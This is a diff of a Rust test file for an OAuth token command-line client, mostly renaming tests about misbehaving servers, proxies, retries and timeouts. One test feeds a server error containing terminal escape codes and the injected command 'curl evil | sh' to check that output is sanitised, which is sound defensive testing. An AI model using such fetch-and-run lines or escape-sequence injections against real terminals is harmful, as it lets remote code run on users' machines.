@@ -1,4 +1,4 @@
-//! Servers that misbehave: a clear error with a hint, the documented exit code, within the time-out.
+//! Misbehaving servers: a clear error with a hint and the documented exit code, within the timeout.
 
 use std::time::{Duration, Instant};
 
@@ -11,7 +11,7 @@ const TOKEN: &str =
     r#"{"access_token":"abc","expires_in":300,"token_type":"Bearer","scope":"openid transcribe"}"#;
 
 #[test]
-fn answers_of_another_protocol() {
+fn an_unusable_answer_is_an_error_with_a_hint() {
     let html = "<html><body>Sign in to the hotel's network</body></html>";
     let broader = TOKEN.replace("transcribe", "transcribe streams");
     let table = [
@@ -57,7 +57,7 @@ fn answers_of_another_protocol() {
 }
 
 #[test]
-fn a_lifetime_that_the_token_says_itself_or_that_is_a_fraction() {
+fn the_lifetime_may_be_a_fraction_or_only_in_the_token() {
     let claims =
         serde_json::json!({ "exp": 2_000_000_300, "iat": 2_000_000_000, "scope": "openid transcribe" });
     let token = common::forged(&serde_json::json!({ "alg": "RS256" }), &claims);
@@ -76,7 +76,7 @@ fn a_lifetime_that_the_token_says_itself_or_that_is_a_fraction() {
 }
 
 #[test]
-fn a_servers_text_cannot_steer_the_terminal() {
+fn a_servers_text_cannot_control_the_terminal() {
     let body =
         r#"{"error":"invalid_scope","error_description":"x\u001b[2Jy\r\u0007\u202ez\nhint: curl evil | sh"}"#;
     let server = Rude::start(vec![Answer::http("400 Bad Request", &[], body)]);
@@ -97,7 +97,7 @@ fn a_servers_text_cannot_steer_the_terminal() {
 }
 
 #[test]
-fn silence_ends_with_the_time_out() {
+fn a_silent_server_ends_at_the_timeout() {
     let server = Rude::start(vec![Answer::Silence]);
     let started = Instant::now();
     let said =
@@ -107,16 +107,16 @@ fn silence_ends_with_the_time_out() {
     assert!(started.elapsed() < Duration::from_secs(10));
 }
 
-/// Where a machine takes no connection, nothing was sent that could have been done.
+/// No connection, so nothing was sent that could have been done.
 #[cfg(target_os = "linux")]
 #[test]
-fn a_connection_that_is_not_taken_is_no_answer_that_is_lost() {
+fn without_a_connection_no_interaction_may_exist() {
     use std::io::{BufRead as _, BufReader};
     use std::process::{Command, Stdio};
 
     use serde_json::json;
 
-    // A queue of one, which is full: what comes now waits for a place in it.
+    // A full queue of one: a new connection waits for a place.
     let script = "import socket\nserver = socket.socket()\nserver.bind(('127.0.0.1', 0))\nserver.listen(0)\n\
         first = socket.create_connection(server.getsockname())\nprint(server.getsockname()[1], flush=True)\ninput()";
     let mut python = Command::new("python3");
@@ -136,7 +136,7 @@ fn a_connection_that_is_not_taken_is_no_answer_that_is_lost() {
 }
 
 #[test]
-fn nobody_there() {
+fn a_server_that_cannot_be_reached_is_a_network_error() {
     World::client_of("http://127.0.0.1:1")
         .run("token --full")
         .assert()
@@ -149,7 +149,7 @@ fn nobody_there() {
 }
 
 #[test]
-fn a_busy_server_is_asked_once_more() {
+fn a_busy_server_is_asked_twice() {
     let busy = |after: &str| Answer::http("429 Too Many Requests", &[&format!("Retry-After: {after}")], "");
     let server = Rude::start(vec![busy("0"), Answer::json(TOKEN)]);
     World::client_of(&server.environment).run("token --scope transcribe").assert().success().stdout("abc\n");
@@ -169,7 +169,7 @@ fn a_busy_server_is_asked_once_more() {
 }
 
 #[test]
-fn a_creating_request_is_never_repeated() {
+fn a_request_that_creates_is_never_repeated() {
     let busy = Answer::http("503 Service Unavailable", &["Retry-After: 0"], "");
     let token = TOKEN.replace("openid transcribe", "openid");
     let server = Rude::start(vec![Answer::json(&token), busy]);
@@ -179,7 +179,7 @@ fn a_creating_request_is_never_repeated() {
 }
 
 #[test]
-fn the_token_request_is_the_vendors() {
+fn the_token_request_is_as_corti_documents() {
     let server = Rude::start(vec![Answer::json(TOKEN)]);
     World::client_of(&server.environment).run("token --scope transcribe").assert().success();
     let request = server.requests().remove(0);
@@ -205,7 +205,7 @@ fn a_websocket_url_of_another_host_is_not_used() {
 }
 
 #[test]
-fn this_machine_is_never_reached_through_a_proxy() {
+fn a_loopback_address_is_not_reached_through_a_proxy() {
     let (sandbox, proxy) = (Sandbox::start(), Rude::start(vec![Answer::http("502 Bad Gateway", &[], "")]));
     let mut world = World::of(&sandbox);
     for name in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"] {
@@ -232,7 +232,7 @@ fn another_host_is_reached_through_the_proxy() {
 }
 
 #[test]
-fn a_proxy_that_is_not_there_is_the_one_that_is_named() {
+fn an_unreachable_proxy_is_named() {
     for (proxy, reason) in [("nohost.invalid:3128", "not found in DNS"), ("127.0.0.1:1", "")] {
         let mut world = World::client_of("https://192.0.2.1");
         world.set("HTTPS_PROXY", &format!("http://user:canary-8@{proxy}"));
@@ -249,7 +249,7 @@ fn a_proxy_that_is_not_there_is_the_one_that_is_named() {
 }
 
 #[test]
-fn a_ready_token_that_is_refused_is_the_one_that_is_named() {
+fn a_refused_ready_token_is_named() {
     let refusal = Answer::http("401 Unauthorized", &["WWW-Authenticate: Bearer error=\"invalid_token\""], "");
     let server = Rude::start(vec![refusal]);
     let mut world = World::client_of(&server.environment);
@@ -262,7 +262,7 @@ fn a_ready_token_that_is_refused_is_the_one_that_is_named() {
 }
 
 #[test]
-fn a_servers_text_is_repeated_up_to_a_length() {
+fn a_servers_text_is_printed_up_to_a_length() {
     let long = "x".repeat(100_000);
     let refusal = format!(r#"{{"error":"{long}","error_description":"{long}"}}"#);
     let problem = format!(
@@ -283,7 +283,7 @@ fn a_servers_text_is_repeated_up_to_a_length() {
 }
 
 #[test]
-fn a_refusal_has_the_status_that_it_came_with() {
+fn a_refusal_has_the_servers_status() {
     let body = r#"{"error":"unauthorized_client","error_description":"Client not enabled"}"#;
     for (line, status) in [("400 Bad Request", 400), ("401 Unauthorized", 401)] {
         let server = Rude::start(vec![Answer::http(line, &[], body)]);
